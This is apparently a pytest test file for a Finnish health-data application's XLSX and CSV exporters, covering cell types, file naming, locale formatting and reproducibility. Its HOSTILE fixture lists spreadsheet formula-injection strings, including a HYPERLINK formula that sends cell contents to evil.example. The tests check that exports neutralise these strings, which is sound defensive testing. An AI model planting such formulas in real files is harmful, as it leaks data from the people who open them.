"""The writers (sotedata.exports.files): types that survive into Excel, nothing that runs, names
that
say what a file holds, and the same bytes for the same input."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import pandas as pd
import pytest
from openpyxl import load_workbook

from sotedata.domain.model import Measure, default_roadmap
from sotedata.exports import files as export
from sotedata.ingest import import_file
from sotedata.store.engine import Store
from sotedata.views.query import TableQuery
from sotedata.views.tables import Table, build_table, sources_from_store

EXPORTED = datetime(2026, 11, 23, 9, 30, 0)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tpiilo",
    "\rrivi",
]


@pytest.fixture(scope="module")
def sources(demo_db_url):
    with Store.open(demo_db_url) as store:
        return sources_from_store(store)


@pytest.fixture(scope="module")
def hostile_sources(tmp_path_factory):
    """A database whose comments came in through a real import, each one a formula attempt."""
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'sote.sqlite'}"
    measures = [
        Measure(f"X-{i}", f"Toimenpide {i}", 1, "ict", i % 2 == 0, date(2026, 1, 31))
        for i in range(1, len(HOSTILE) + 1)
    ]
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["Hyvinvointialue", "Tunnus", "Tila", "Tilannepäivä", "Kommentti"])
    for measure, comment in zip(measures, HOSTILE, strict=True):
        writer.writerow(["Lappi", measure.id, "Valmis", "15.11.2026", comment])
    with Store.open(url) as store:
        store.save_roadmap(default_roadmap(measures))
        report = import_file(store, out.getvalue().encode("utf-8"), "vihamielinen.csv")
        assert report.ok, report.errors
        yield sources_from_store(store)


def hostile_table(hostile_sources) -> Table:
    return build_table(TableQuery(areas=("21",)), hostile_sources)


# --- neutralising ---------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(text):
    assert export.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Valmis", "", "1+1", "a=b", "'=jo suojattu", "€ 5"])
def test_ordinary_text_is_left_alone(text):
    assert export.neutralise(text) == text


def test_negative_numbers_stay_numbers():
    assert export.csv_cell(-3, "change", finnish=False) == "-3"
    assert export.csv_cell(-0.05, "share_change", finnish=True) == "-0,05"
    assert export.csv_cell("-3 päivää", "text", finnish=False) == "'-3 päivää"


def test_imported_formula_comments_are_neutralised_in_every_format(hostile_sources):
    table = hostile_table(hostile_sources)
    stored = set(table.frame["comment"])
    # the import kept the formulas as written (it folds whitespace, so tab and CR go there)
    assert stored == {*HOSTILE[:4], "piilo", "rivi"}
    expected = {*("'" + text for text in HOSTILE[:4]), "piilo", "rivi"}
    for fmt, finnish in (("csv", False), ("csv-fi", True)):
        data = export.export_bytes(table, fmt, EXPORTED).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(data, newline=""), delimiter=";" if finnish else ","))
        column = rows[0].index("Kommentti")
        assert {row[column] for row in rows[1:]} == expected
    book = load_workbook(io.BytesIO(export.export_bytes(table, "xlsx", EXPORTED)))
    sheet = book.worksheets[0]
    column = [c.value for c in sheet[1]].index("Kommentti") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert {c.value for c in cells} == expected
    assert {c.data_type for c in cells} == {"s"}  # strings, no formula cell anywhere
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)


def test_a_search_text_in_the_metadata_is_neutralised_too(sources):
    table = build_table(TableQuery(search="=1+1"), sources)
    book = load_workbook(io.BytesIO(export.to_xlsx(table, EXPORTED)))
    values = [c.value for row in book["Tiedot"].iter_rows() for c in row]
    filters = next(v for v in values if isinstance(v, str) and "Haku" in v)
    assert filters.startswith("Haku: =1+1") and all(c.data_type != "f" for c in book["Tiedot"]["B"])


# --- file names -----------------------------------------------------------------------------------


def named(**query) -> str:
    return export.file_name(Table(TableQuery(**query), pd.DataFrame(), (), ""), "xlsx")


def test_file_names_say_what_the_file_holds():
    assert named(areas=("21",), phase=3, as_of=date(2026, 11, 23)) == (
        "tilannekuva_2026-11-23_lappi_vaihe-3.xlsx"
    )
    assert named(as_of=date(2026, 11, 23)) == "tilannekuva_2026-11-23.xlsx"
    assert named(
        table="risks", areas=("01",), risk_min=15, risk_max=25, as_of=date(2022, 12, 15)
    ) == ("tilannekuva_riskit_2022-12-15_ita-uusimaa_riski-15-25.xlsx")
    assert named(
        table="changes",
        areas=("01", "02", "03", "21"),
        as_of=date(2022, 12, 15),
        since=date(2022, 6, 15),
    ) == ("tilannekuva_muutokset_2022-12-15_vrt-2022-06-15_4-aluetta.xlsx")
    assert (
        named(
            work_stream="ict",
            critical_only=True,
            overdue_only=True,
            statuses=("done",),
            search="Äänestys ja?",
        )
        == "tilannekuva_ict_tila-done_kriittiset_myohassa_haku-aanestys-ja.xlsx"
    )
    csv_name = export.file_name(
        Table(TableQuery(as_of=date(2022, 1, 15)), pd.DataFrame(), (), ""), "csv-fi"
    )
    assert csv_name == "tilannekuva_2022-01-15-fi.csv"
    plain = export.file_name(
        Table(TableQuery(as_of=date(2022, 1, 15)), pd.DataFrame(), (), ""), "csv"
    )
    assert plain == "tilannekuva_2022-01-15.csv"


# --- XLSX -----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def lapland(sources) -> Table:
    return build_table(TableQuery(areas=("21", "01")), sources)


def test_xlsx_has_typed_cells_a_frozen_header_and_an_autofilter(lapland):
    book = load_workbook(io.BytesIO(export.to_xlsx(lapland, EXPORTED)))
    assert book.sheetnames == ["Tilanne", "Tiedot"]
    sheet = book["Tilanne"]
    assert [c.value for c in sheet[1]] == lapland.headers()
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:K{lapland.rows + 1}"
    assert sheet.max_row == lapland.rows + 1
    code = sheet["A2"]
    assert (code.value, code.data_type) == ("01", "s")
    frame = lapland.frame
    headers = lapland.headers()
    deadline = sheet.cell(row=2, column=headers.index("Määräaika") + 1)
    assert deadline.is_date and deadline.number_format == "d.m.yyyy"
    assert deadline.value.date() == frame["deadline"].iloc[0]
    phase = sheet.cell(row=2, column=headers.index("Vaihe") + 1)
    assert phase.value == frame["phase"].iloc[0] and phase.data_type == "n"
    critical = sheet.cell(row=2, column=headers.index("Kriittinen") + 1)
    assert critical.value in {"Kyllä", "Ei"}
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJK"]
    assert all(6 <= w <= export.MAX_WIDTH for w in widths)
    assert sheet.column_dimensions["D"].width > sheet.column_dimensions["A"].width


def test_xlsx_shares_are_percentages_and_counts_are_numbers(sources):
    table = build_table(TableQuery(table="metrics"), sources)
    sheet = load_workbook(io.BytesIO(export.to_xlsx(table, EXPORTED))).worksheets[0]
    headers = [c.value for c in sheet[1]]
    share = sheet.cell(row=2, column=headers.index("Valmiiden osuus") + 1)
    assert share.number_format == "0.0 %"
    assert share.value == pytest.approx(table.frame["done_share"].iloc[0])
    count = sheet.cell(row=2, column=headers.index("Toimenpiteitä") + 1)
    assert isinstance(count.value, int) and count.value == table.frame["measures"].iloc[0]


def test_xlsx_metadata_sheet_says_what_and_where_from(lapland):
    book = load_workbook(io.BytesIO(export.to_xlsx(lapland, EXPORTED)))
    info = {row[0].value: row[1].value for row in book["Tiedot"].iter_rows()}
    assert info["Aineisto"] == "Toimenpiteiden tila"
    assert "raportit" in info["Lähde"]
    assert info["Tilannepäivä"].date() == lapland.query.as_of
    assert info["Rajaukset"] == "Alueet: Itä-Uusimaa, Lappi" or info["Rajaukset"] == (
        "Alueet: Lappi, Itä-Uusimaa"
    )
    assert info["Rivejä"] == lapland.rows
    # every moment on Finland's clock, the zone named: 9.30 UTC in November is 11.30 in Helsinki
    assert info["Viety (Suomen aikaa)"] == datetime(2026, 11, 23, 11, 30, 0)
    assert "Europe/Helsinki" in info["Aikavyöhyke"]
    assert info["Sovelluksen versio"] == export.app_version() != ""
    assert info["Huomio"].startswith("Esimerkkiaineisto")


def test_xlsx_bytes_depend_only_on_the_input_and_the_export_time(lapland):
    first = export.to_xlsx(lapland, EXPORTED)
    assert export.to_xlsx(lapland, EXPORTED) == first
    later = export.to_xlsx(lapland, datetime(2026, 11, 24, 8, 0, 0))
    assert later != first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {i.date_time for i in archive.infolist()} == {(2026, 11, 23, 9, 30, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert core.count("2026-11-23T09:30:00Z") == 2  # created and modified


# --- CSV ------------------------------------------------------------------------------------------


def test_standard_csv_is_utf8_comma_iso_dates_decimal_point(sources):
    table = build_table(TableQuery(table="metrics", areas=("21",)), sources)
    data = export.to_csv(table)
    assert not data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), dtype={"Aluekoodi": str})
    assert list(back.columns) == table.headers()
    assert back["Aluekoodi"].iloc[0] == "21"
    assert back["Valmiiden osuus"].iloc[0] == pytest.approx(
        table.frame["done_share"].iloc[0], abs=1e-6
    )
    status = export.to_csv(build_table(TableQuery(areas=("21",)), sources)).decode()
    assert ",2022-12-15," in status and "Lappi" in status


def test_finnish_csv_has_bom_semicolons_decimal_comma_and_finnish_dates(sources):
    table = build_table(TableQuery(table="metrics", areas=("01",)), sources)
    data = export.to_csv(table, finnish=True)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0].split(";")[:2] == ["Aluekoodi", "Alue"]
    back = pd.read_csv(io.StringIO(text), sep=";", decimal=",", dtype={"Aluekoodi": str})
    assert back["Alue"].iloc[0] == "Itä-Uusimaa"  # the letters survive
    assert back["Aluekoodi"].iloc[0] == "01"
    assert back["Valmiiden osuus"].iloc[0] == pytest.approx(
        table.frame["done_share"].iloc[0], abs=1e-6
    )
    assert "," in text.splitlines()[1]  # a decimal comma, since a share is not a whole number
    status = export.to_csv(build_table(TableQuery(areas=("01",)), sources), finnish=True).decode()
    assert ";15.12.2022;" in status


def test_the_row_count_of_every_format_is_the_table_s(sources):
    table = build_table(TableQuery(table="risks", risk_min=15), sources)
    assert table.rows > 0
    for fmt in ("csv", "csv-fi"):
        text = export.export_bytes(table, fmt).decode("utf-8-sig")
        assert (
            len(
                list(
                    csv.reader(
                        io.StringIO(text, newline=""), delimiter=";" if fmt == "csv-fi" else ","
                    )
                )
            )
            == table.rows + 1
        )
    sheet = load_workbook(io.BytesIO(export.export_bytes(table, "xlsx", EXPORTED))).worksheets[0]
    assert sheet.max_row == table.rows + 1


# --- opened by LibreOffice Calc -------------------------------------------------------------------


def _soffice() -> str:
    import os
    import shutil

    found = shutil.which(os.environ.get("SOTE_SOFFICE", "soffice"))
    if found:
        return found
    message = "LibreOffice (soffice) not found (run `make libreoffice`)"
    if os.environ.get("CI") == "true":
        pytest.fail(message)
    pytest.skip(message)


def opened_by_calc(tmp_path, name: str, data: bytes, infilter: str | None = None) -> list[list]:
    """The first sheet as LibreOffice Calc reads ``data``, saved by it as .ods and read back."""
    import subprocess

    from python_calamine import CalamineWorkbook

    source = tmp_path / name
    source.write_bytes(data)
    command = [
        _soffice(),
        f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
        "--headless",
        *([f"--infilter={infilter}"] if infilter else []),
        "--convert-to",
        "ods",
        "--outdir",
        str(tmp_path),
        str(source),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    book = CalamineWorkbook.from_path(str(source.with_suffix(".ods")))
    return book.get_sheet_by_index(0).to_python()


@pytest.mark.libreoffice
def test_calc_opens_the_xlsx_with_its_types_and_letters(tmp_path, sources):
    table = build_table(TableQuery(table="metrics", areas=("01", "21")), sources)
    rows = opened_by_calc(tmp_path, "luvut.xlsx", export.to_xlsx(table, EXPORTED))
    headers = rows[0]
    assert headers == table.headers()
    first = dict(zip(headers, rows[1], strict=True))
    assert first["Aluekoodi"] == "01" and first["Alue"] == "Itä-Uusimaa"
    assert first["Valmiiden osuus"] == pytest.approx(table.frame["done_share"].iloc[0])
    status = build_table(TableQuery(areas=("21",)), sources)
    rows = opened_by_calc(tmp_path, "tila.xlsx", export.to_xlsx(status, EXPORTED))
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Tilannepäivä"] == status.frame["reported_on"].iloc[0]  # a date, not text
    assert first["Määräaika"] == status.frame["deadline"].iloc[0]


@pytest.mark.libreoffice
def test_calc_opens_the_finnish_csv_with_dates_numbers_and_letters(tmp_path, sources):
    table = build_table(TableQuery(areas=("01",)), sources)
    data = export.to_csv(table, finnish=True)
    # semicolon, double quote, UTF-8, from line 1, Finnish (1035): Calc's dialog in Finland
    rows = opened_by_calc(tmp_path, "tila.csv", data, "CSV:59,34,76,1,,1035")
    assert rows[0] == table.headers()
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Alue"] == "Itä-Uusimaa"
    assert first["Tilannepäivä"] == table.frame["reported_on"].iloc[0]
    metrics_table = build_table(TableQuery(table="metrics", areas=("01",)), sources)
    rows = opened_by_calc(
        tmp_path, "luvut.csv", export.to_csv(metrics_table, finnish=True), "CSV:59,34,76,1,,1035"
    )
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Valmiiden osuus"] == pytest.approx(
        metrics_table.frame["done_share"].iloc[0], abs=1e-6
    )


def test_error_words_and_formula_text_stay_strings_in_plain_and_wrapped_columns():
    from sotedata.views.table_base import Column

    columns = (Column("measure_id", "text", "Tunnus"), Column("comment", "text", "Kommentti"))
    frame = pd.DataFrame({"measure_id": ["#REF!", "=1+1"], "comment": ["#N/A", "@x"]})
    table = Table(TableQuery(as_of=date(2026, 1, 1)), frame, columns, "Testi")
    sheet = load_workbook(io.BytesIO(export.to_xlsx(table, EXPORTED))).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert [c.value for c in cells] == ["#REF!", "#N/A", "'=1+1", "'@x"]
    assert {c.data_type for c in cells} == {"s"}


def test_import_history_names_the_file_and_its_state(hostile_sources):
    table = build_table(TableQuery(table="imports"), hostile_sources)
    first = table.frame.iloc[0]  # newest first
    assert (first["source"], first["kind"], first["import_status"]) == (
        "vihamielinen.csv",
        "Tiedosto",
        "Voimassa",
    )
    assert first["loaded_at"].tzinfo is None and first["loaded_at"].microsecond == 0
    sheet = load_workbook(io.BytesIO(export.to_xlsx(table, EXPORTED))).worksheets[0]
    assert sheet["B2"].is_date and sheet["B2"].number_format == "d.m.yyyy h:mm:ss"


def test_times_are_finnish_wall_clock_with_the_zone_named_on_page_and_in_files(sources):
    import dataclasses

    from sotedata.views.tables import fmt_local_time

    summer = datetime(2026, 6, 1, 9, 0, 0)  # stored in UTC: 12.00 in Helsinki (UTC+3)
    history = pd.DataFrame(
        [(7, summer, "file", "a.xlsx", "a.xlsx", 3, "a@b.fi", "active", None)],
        columns=[
            "id",
            "loaded_at",
            "kind",
            "file_name",
            "source",
            "row_count",
            "imported_by",
            "status",
            "reverted_at",
        ],
    )
    table = build_table(TableQuery(table="imports"), dataclasses.replace(sources, imports=history))
    assert table.frame["loaded_at"].iloc[0] == datetime(2026, 6, 1, 12, 0, 0)
    assert "Ladattu (Suomen aikaa)" in table.headers()
    # the upload and admin pages write the same moment the same way
    assert fmt_local_time(summer, "fi") == "1.6.2026 12.00"
    text = export.to_csv(table).decode("utf-8")
    assert "Ladattu (Suomen aikaa)" in text.splitlines()[0]
    assert "2026-06-01 12:00:00" in text
    sheet = load_workbook(io.BytesIO(export.to_xlsx(table, EXPORTED))).worksheets[0]
    assert sheet["B2"].value == datetime(2026, 6, 1, 12, 0, 0)
